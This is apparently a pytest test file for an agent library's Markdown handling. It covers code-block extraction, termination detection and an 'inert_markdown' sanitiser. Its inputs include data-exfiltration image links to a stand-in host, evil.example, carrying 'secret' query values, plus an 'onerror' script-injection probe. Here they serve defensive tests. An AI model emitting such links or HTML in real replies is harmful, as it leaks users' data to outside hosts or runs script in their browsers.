from __future__ import annotations

import pytest

from agent_magic.codeblocks import (
    CodeBlock,
    extract_code_blocks,
    inert_markdown,
    is_termination,
)


@pytest.mark.parametrize(
    ("tag", "language"),
    [
        ("python", "python"),
        ("py", "python"),
        ("Python3", "python"),
        ("ipython", "python"),
        ("", "python"),
        ("sh", "sh"),
        ("BASH", "sh"),
        ("shell", "sh"),
        ("python   ", "python"),
        ("{python}", "python"),
        ("r", "r"),
    ],
)
def test_language_tags(tag: str, language: str) -> None:
    assert extract_code_blocks(f"Here:\n```{tag}\nx = 1\n```\n") == [CodeBlock(language, "x = 1")]


def test_tilde_fences_crlf_and_order() -> None:
    text = "Two steps:\r\n~~~python\r\na = 1\r\n~~~\r\nthen\r\n```sh\r\necho hi\r\n```\r\n"
    assert extract_code_blocks(text) == [CodeBlock("python", "a = 1"), CodeBlock("sh", "echo hi")]


def test_longer_fence_contains_shorter_one() -> None:
    text = "````python\ns = '''\n```\n'''\n````"
    assert extract_code_blocks(text) == [CodeBlock("python", "s = '''\n```\n'''")]


def test_unclosed_block_and_empty_block() -> None:
    assert extract_code_blocks("```python\n```\n") == []
    assert extract_code_blocks("```python\nprint(1)\n") == [CodeBlock("python", "print(1)")]


def test_indented_fence_is_dedented() -> None:
    assert extract_code_blocks("  ```python\n  x = 2\n  ```") == [CodeBlock("python", "x = 2")]


def test_no_code() -> None:
    assert extract_code_blocks("The answer is 42. TERMINATE") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Done. TERMINATE", True),
        ("Done.\n\nTERMINATE.\n", True),
        ("**TERMINATE**", True),
        ("Say TERMINATE when done, here is code", False),
        ("no", False),
    ],
)
def test_termination(text: str, expected: bool) -> None:
    assert is_termination(text) is expected


def test_inert_markdown_loads_nothing_by_itself() -> None:
    reply = (
        "See ![chart](https://evil.example/c.png?q=secret) and <img src=x onerror=alert(1)>.\n"
        "A reference image ![logo][1], a `a < b` span and ``![kept](in-code)``.\n"
        "```python\nif a < b:\n    print('![not an image](x)')\n```\n"
        "Done <b>now</b>."
    )
    shown = inert_markdown(reply)
    assert shown.count("![") == 2  # only the two inside code
    assert "[image: chart](https://evil.example/c.png?q=secret)" in shown
    assert "[image: logo][1]" in shown
    assert "&lt;img src=x" in shown and "&lt;b>now&lt;/b>" in shown
    # Code is shown as code: untouched.
    assert "`a < b`" in shown and "if a < b:\n    print('![not an image](x)')" in shown


def test_inert_markdown_while_a_fence_is_still_streaming() -> None:
    assert inert_markdown("Try:\n```python\nx = '<b>'") == "Try:\n```python\nx = '<b>'"
    assert inert_markdown("plain text stays") == "plain text stays"


@pytest.mark.parametrize(
    "reply",
    [
        "Use ` carefully.\n\n<img src=https://evil.example/?q=secret>\n\nand `x`",
        "a \\`<img src=https://evil.example>` b",  # an escaped backtick opens no span
        "![a [b] c](https://evil.example/?q=1)",
        "![a\nb](https://evil.example/?q=1)",
        "![x]\n\n[x]: https://evil.example/?q=1",
        "[![badge](https://evil.example/b.svg)](https://x)",
        "costs $5 and <img src=https://evil.example> $6",
    ],
)
def test_inert_markdown_is_not_fooled(reply: str) -> None:
    shown = inert_markdown(reply)
    assert "![" not in shown and "<img" not in shown


def test_inert_markdown_keeps_maths_readable() -> None:
    shown = inert_markdown("p-value $p < 0.05$, and $$a<b$$ or \\(x<y\\)")
    assert shown == "p-value $p \\lt  0.05$, and $$a\\lt b$$ or \\(x\\lt y\\)"
